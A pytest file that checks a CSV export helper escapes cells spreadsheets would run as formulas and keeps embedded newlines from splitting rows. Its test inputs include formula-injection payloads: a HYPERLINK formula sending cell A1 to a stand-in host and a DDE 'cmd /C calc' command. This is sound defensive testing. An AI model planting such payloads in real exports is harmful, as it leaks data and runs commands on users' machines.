"""Cells that spreadsheets would run."""

import csv
import io

import pytest

from evalsvc.files.csv_cells import csv_text, plain_cell


@pytest.mark.parametrize(
    "text",
    ["=1+1", '=HYPERLINK("http://x/?"&A1)', "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)", "\t=1", "\r=1", "\n=1", "＝1"],
)
def test_what_would_be_a_formula_is_text(text: str) -> None:
    assert plain_cell(text) == f"'{text}"


@pytest.mark.parametrize(
    "value", [-0.5, -3, None, True, "-Infinity", "-0.5", "+1e-3", "NaN", "a=b", "", " cheese", "coco/fid"]
)
def test_numbers_and_other_text_stay(value: object) -> None:
    """pandas reads them as they are."""
    assert plain_cell(value) is value


@pytest.mark.parametrize("end", ["\r", "\n", "\r\n"])
def test_an_end_of_line_within_a_cell_begins_no_row(end: str) -> None:
    rows = [["metric", "message"], ["coco/fid", f"first{end}=second"], ["loss", "plain"]]
    text = csv_text(rows)
    assert list(csv.reader(io.StringIO(text, newline=""))) == rows
    assert text.startswith("metric,message\n"), "other rows are as short as before"
